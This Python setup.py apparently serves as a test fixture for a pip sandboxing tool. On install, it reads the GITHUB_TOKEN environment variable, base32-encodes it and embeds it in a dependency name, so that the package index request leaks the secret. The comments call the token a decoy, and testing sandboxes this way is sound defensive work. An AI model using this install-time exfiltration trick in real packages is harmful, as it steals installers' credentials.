import base64
import os

from setuptools import setup

# The decoy token, base32 and lower case, as the name of a dependency: pip
# asks the allowed index for /simple/<that name>/ through pipjail's proxy.
tok = os.environ.get("GITHUB_TOKEN", "")
name = "pjatk-" + base64.b32encode(tok.encode()).decode().rstrip("=").lower()
setup(name="@@NAME@@", version="1.0", packages=["pjatk"], install_requires=[name])
